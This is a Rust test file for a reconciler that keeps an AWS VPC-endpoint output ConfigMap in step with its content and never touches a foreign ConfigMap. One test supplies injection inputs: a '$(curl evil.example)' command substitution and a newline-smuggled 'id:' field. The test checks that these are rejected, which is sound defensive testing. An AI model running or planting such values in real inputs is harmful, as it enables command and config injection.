//! The output ConfigMap over all combinations: it never outlives its content, and a foreign one is never touched.

use std::collections::BTreeMap;

use domain::reconcile::output::{Change, Content, Existing, OutputNames, OutputTargets, change};
use domain::serverless::output::{connected, content, is_known, known_address};
use domain::serverless::status::Report;

use invariants::fixtures::{Mark, STATUSES, endpoint, vpce};

fn report(status: &str) -> Report {
    Report { endpoint: Some(endpoint(1, Mark::Ours, status)), ..Report::default() }
}

#[test]
fn a_former_output_is_removed_and_nothing_is_touched_without_knowledge() {
    let maps = [None, Some("one"), Some("two")];
    for (declared, recorded) in maps.into_iter().flat_map(|one| maps.map(|other| (one, other))) {
        for bits in 0..16 {
            let [deleting, fetched, unchanged, lost] = [1, 2, 4, 8].map(|bit| bits & bit != 0);
            let report = Report { unchanged, lost, ..report("RESERVED") };
            let names = OutputNames { declared, recorded };
            let found = names.targets(deleting, is_known(&report, fetched));
            let knows = lost || fetched && !unchanged;
            let expected = match (declared, recorded) {
                _ if deleting => (None, None),
                (None, recorded) => (recorded, None),
                (Some(_), _) if !knows => (None, None),
                (declared, recorded) if declared == recorded => (None, declared),
                (declared, recorded) => (recorded, declared),
            };
            let (remove, keep) = expected;
            assert_eq!(
                found,
                OutputTargets { remove, keep },
                "{declared:?} {recorded:?} {deleting} {report:?}"
            );
        }
    }
}

#[test]
fn a_config_map_exists_while_it_has_content_and_a_foreign_one_is_never_touched() {
    let (none, some) = (Content::new(), content(&report("RESERVED"), None));
    let other = content(&report("AVAILABLE"), None);
    for (wanted, absent, foreign, own) in [
        (&none, Change::Nothing, Change::Nothing, [Change::Delete, Change::Delete]),
        (&some, Change::Create, Change::Taken, [Change::Nothing, Change::Fill]),
        (&other, Change::Create, Change::Taken, [Change::Fill, Change::Nothing]),
    ] {
        assert_eq!(change(Existing::Absent, wanted), absent);
        assert_eq!(change(Existing::Foreign, wanted), foreign);
        assert_eq!([&some, &other].map(|found| change(Existing::Own(found), wanted)), own);
    }
}

#[test]
fn it_names_what_is_there_and_nothing_of_an_endpoint_that_is_not() {
    for status in STATUSES.iter().copied() {
        let is_there = !["RESERVATION_REQUESTED", "DELETING"].contains(&status);
        let shown = content(&report(status), None);
        assert_eq!(!shown.is_empty(), is_there, "{status}");
        assert!(content(&Report { lost: true, ..report(status) }, None).is_empty(), "{status}");
        assert!(content(&Report { endpoint: None, ..report(status) }, None).is_empty());
        assert!(shown.values().all(|value| !value.is_empty()), "an empty value would be substituted");
        assert_eq!(connected(&report(status)).is_some(), status == "AVAILABLE");
    }
    assert_eq!(content(&report("RESERVED"), None)["region"], "us-east-1");
}

#[test]
fn a_service_name_that_aws_could_not_have_made_stands_in_no_output() {
    for bad in ["", "$(curl evil.example)", "com.amazonaws.vpce.us-east-1.vpce-svc-1\nid: other"] {
        let mut report = report("AVAILABLE");
        report.endpoint.as_mut().unwrap().service_name = Some(bad.to_owned());
        assert_eq!(content(&report, None), BTreeMap::new(), "{bad:?}");
    }
}

#[test]
fn an_address_is_known_for_its_vpc_endpoint_alone() {
    let held = content(&report("AVAILABLE"), Some("orders-pl-0.example.net".to_owned()));
    let (one, two) = (vpce(1).to_string(), vpce(2).to_string());
    assert_eq!(known_address(&held, &one).as_deref(), Some("orders-pl-0.example.net"));
    assert_eq!(known_address(&held, &two), None);
    assert_eq!(known_address(&content(&report("AVAILABLE"), None), &one), None);
}
